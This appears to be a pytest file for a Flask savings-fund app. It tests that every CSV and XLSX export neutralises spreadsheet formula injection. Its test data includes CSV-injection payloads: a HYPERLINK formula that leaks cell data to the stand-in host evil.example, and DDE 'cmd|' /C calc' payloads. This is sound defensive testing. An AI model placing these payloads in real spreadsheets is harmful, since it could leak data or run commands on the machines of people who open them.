"""CSV and XLSX exports are inert: text that starts like a formula never runs, numbers stay numbers.

Members, a fund and a village named like formulas (``=HYPERLINK(…)``, ``+cmd|…``,
``@SUM(…)``, ``-2+3``, tab, carriage return) go through every CSV and XLSX the web
app sends (each document, the visit report, the programme report, the register
import's problem report): every text cell that starts like a formula must start with
``'``, no XLSX cell is a formula, and amounts are still numbers (negative ones too).
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from groups.beneficiaries.tables import Problem, problems_csv
from groups.savings.models import Meeting, SavingsFund
from groups.spreadsheets import FORMULA_STARTS, inert, inert_row
from ledger.models import Fund
from reports import render
from reports.document import Column, Heading, Table
from tests.register.conftest import csv_bytes
from tests.web.conftest import Web, login, post
from web.auth.models import Role

FORMULAS = {
    "fund": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "village": "@SUM(1+1)*cmd|' /C calc'!A0",
    "member": "+cmd|' /C notepad'!A0",
    "other": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def test_inert_prefixes_text_that_starts_like_a_formula_and_keeps_numbers() -> None:
    for start in FORMULA_STARTS:
        assert inert(start + "1+1") == "'" + start + "1+1"
    for value in ("آمنه", "1404/01/04", "a=b", " =1", "'=1", ""):
        assert inert(value) == value
    for number in (-5_000, 0, 12, -0.25, Decimal("-1.5"), Fraction(-1, 3), None, True):
        assert inert(number) is number
    assert inert_row(["=1", -3, "x"]) == ["'=1", -3, "x"]


def assert_inert_csv(data: bytes) -> list[list[str]]:
    """Every cell starting like a formula is a number; return the rows."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert NUMBER.match(cell), f"live formula in CSV: {cell!r}"
    return rows


def assert_inert_xlsx(data: bytes) -> list[object]:
    """No cell is a formula; text never starts like one; return every cell's value."""
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                values.append(cell.value)
    return values


def test_render_writes_hostile_heading_and_cells_inert_and_numbers_as_numbers() -> None:
    table = Table(
        "t",
        "جدول",
        "Table",
        (Column("name", "نام", "Name", "text"), Column("amount", "مبلغ", "Amount", "money")),
        tuple((text, -1_000 * i) for i, text in enumerate(FORMULAS.values(), start=1)),
        ("=SUM(B1:B9)", -21_000),
    )
    heading = Heading("عنوان", "Title", FORMULAS["fund"])
    rows = assert_inert_csv(render.write_csv([table], heading))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULAS["fund"] in cells and "'" + FORMULAS["tab"] in cells
    assert "-1000" in cells and "-21000" in cells  # numbers stay numbers
    values = assert_inert_xlsx(render.write_xlsx([table], heading))
    assert "'" + FORMULAS["member"] in values and "'=SUM(B1:B9)" in values
    assert -1_000 in values and -21_000 in values


def test_xlsx_export_survives_control_characters_in_a_name() -> None:
    """openpyxl refuses some control characters; an export must not become a server error."""
    table = Table("t", "جدول", "Table", (Column("name", "نام", "Name", "text"),), (("a\x07b",),))
    values = assert_inert_xlsx(render.write_xlsx([table]))
    assert "ab" in values


def make_formulas(session: Session, web: Web) -> None:
    session.get(Fund, web.fund_id).name = FORMULAS["fund"]  # type: ignore[union-attr]
    session.get(SavingsFund, web.fund_id).village = FORMULAS["village"]  # type: ignore[union-attr]
    for member, key in zip(web.fund.members, ("member", "other", "tab"), strict=True):
        member.name = FORMULAS[key]
    session.flush()


def export_urls(session: Session, web: Web) -> list[str]:
    fund = f"/funds/{web.fund_id}"
    meeting = session.scalars(select(Meeting.id).where(Meeting.fund_id == web.fund_id)).first()
    return [
        f"{fund}/members/{web.member.id}/statement",
        f"{fund}/meetings/{meeting}/minutes",
        f"{fund}/loans/{web.loan.id}/schedule",
        f"{fund}/financials",
        f"{fund}/monitoring",
    ]


def test_every_document_csv_and_xlsx_of_the_web_app_is_inert(
    session: Session, web: Web, client: FlaskClient
) -> None:
    make_formulas(session, web)
    login(client, Role.ADMIN)
    for url in export_urls(session, web):
        as_csv, as_xlsx = client.get(url + ".csv"), client.get(url + ".xlsx")
        assert as_csv.status_code == as_xlsx.status_code == 200, url
        cells = [cell for row in assert_inert_csv(as_csv.data) for cell in row]
        values = assert_inert_xlsx(as_xlsx.data)
        assert "'" + FORMULAS["fund"] in cells and "'" + FORMULAS["fund"] in values, url
        numbers = [v for v in values if isinstance(v, int | float) and not isinstance(v, bool)]
        assert numbers, f"{url}.xlsx: amounts are numbers"
    minutes = client.get(export_urls(session, web)[1] + ".csv").data.decode("utf-8-sig")
    assert all("'" + FORMULAS[key] in minutes for key in ("member", "other", "tab"))


def test_the_programme_report_with_a_formula_for_a_county_is_inert(
    web: Web, client: FlaskClient
) -> None:
    login(client, Role.VIEWER)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/register/report.{fmt}", query_string={"county": "=1+2"})
        assert response.status_code == 200
        check = assert_inert_csv if fmt == "csv" else assert_inert_xlsx
        check(response.data)


def test_the_import_problem_report_is_inert(
    app: Flask, web: Web, client: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(app.config, "REGISTER_UPLOADS", str(tmp_path))
    login(client, Role.VIEWER)
    header = ("کد ملی", "نام", "نام خانوادگی", "تاریخ تولد")
    rows = [["=1+2", "@زهرا", "-کریمی", "+1360/13/40"], ["\t=cmd", "مریم", "احمدی", "1365/01/20"]]
    response = post(
        client,
        "/register/import",
        {"agency": "=HYPERLINK(1)", "received_on": "۱۴۰۳/۰۴/۱۱",
         "file": (io.BytesIO(csv_bytes(rows, header)), "evil.csv")},
        content_type="multipart/form-data",
    )  # fmt: skip
    assert response.status_code == 302
    mapping_url = response.headers["Location"]
    chosen = {"col-0": "national_id", "col-1": "first_name", "col-2": "last_name"}
    chosen["col-3"] = "birth_date"
    dry_run = post(client, mapping_url, chosen).headers["Location"]
    problems = client.get(dry_run + "/problems.csv")
    assert problems.status_code == 200
    cells = [cell for row in assert_inert_csv(problems.data) for cell in row]
    assert "'=1+2" in cells and "'+1360/13/40" in cells


def test_problems_csv_alone_is_inert() -> None:
    text = problems_csv([Problem(2, "=col", "@value", "-bad"), Problem(3, "", "\r=x", "ok")])
    rows = assert_inert_csv(text.encode())
    assert rows[1] == ["2", "'=col", "'@value", "'-bad"] and rows[2][2] == "'\r=x"
